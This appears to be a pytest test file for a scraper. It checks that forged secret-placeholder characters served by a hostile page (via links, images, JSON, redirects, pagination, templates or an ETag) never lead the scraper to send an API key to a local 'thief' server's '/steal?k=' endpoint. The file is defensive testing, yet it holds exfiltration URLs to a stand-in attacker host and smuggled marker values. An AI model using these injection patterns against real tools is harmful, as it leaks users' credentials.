"""Marks stand for secrets; nobody forges one."""

from __future__ import annotations

from typing import Any

import pytest

from scraper.server import Response, Site

FORGED = ["%EF%B7%90env%3AAPI_KEY%EF%B7%91", "%ef%b7%90env:API_KEY%ef%b7%91", "\ufdd0env:API_KEY\ufdd1"]
SECRET = "tr0ub4dor-secret"


@pytest.mark.parametrize("mark", FORGED, ids=["quoted", "quoted in small letters", "raw"])
@pytest.mark.parametrize(
    "way",
    [
        "link",
        "file",
        "json",
        "redirect",
        "next",
        "row of a template",
    ],
)
def test_nobody_forges_a_mark_to_be_sent_the_secret(
    way: str, mark: str, site: Site, serve: Any, run_job: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The job uses the secret for its own API; a page leads to a URL in which it would stand."""
    monkeypatch.setenv("API_KEY", SECRET)
    evil = Site()
    evil.route("/<path:rest>")(lambda request, rest: "<h1>thanks</h1>")
    thief = serve(evil)
    url = f"{thief.url}/steal?k={mark}"
    location = url.encode().decode("latin-1")
    answers: dict[str, Any] = {
        "link": f'<a href="{url}">x</a>',
        "file": f'<img src="{url}">',
        "json": {"url": url},
        "redirect": Response(302, {"Location": location}),
        "next": f'<a class="next" href="{url}">x</a>',
        "row of a template": f"<b>{mark}</b>",
    }
    site.route("/start")(lambda request: answers[way])
    rules: dict[str, Any] = {
        "link": {"follow": {"r": {"select": "a", "same": "any"}}},
        "file": {"files": "img"},
        "json": {"read": "json", "files": "url"},
        "redirect": {"item": {"t": "h1"}},
        "next": {"next": "a.next"},
        "row of a template": {"item": {"k": "b"}, "files": {"url": f"{thief.url}/steal?k={{{{ item.k }}}}"}},
    }
    start = {"url": "{{ base }}/start", "headers": {"X-Key": "{{ env('API_KEY') }}"}}
    ended = run_job(serve(site), {"start": [start], "rules": {"r": rules[way]}})
    assert [seen.target for seen in thief.log if SECRET in seen.target] == []
    assert ended.code in (0, 4)


def test_nobody_forges_a_mark_in_a_validator(
    site: Site, serve: Any, run_job: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("API_KEY", SECRET)
    site.route("/start")(lambda request: '<img src="/a.png">')
    site.route("/a.png")(lambda request: Response(200, {"ETag": f'"{FORGED[0]}"'}, b"pixels"))
    start = {"url": "{{ base }}/start", "headers": {"X-Key": "{{ env('API_KEY') }}"}}
    job = {"start": [start], "rules": {"r": {"files": "img"}}, "files": {"existing": "check"}}
    server = serve(site)
    run_job(server, job)
    run_job(server, job)
    sent = [dict(seen.headers).get("If-None-Match") for seen in server.log if seen.target == "/a.png"]
    assert sent == [None, f'"{FORGED[0]}"']
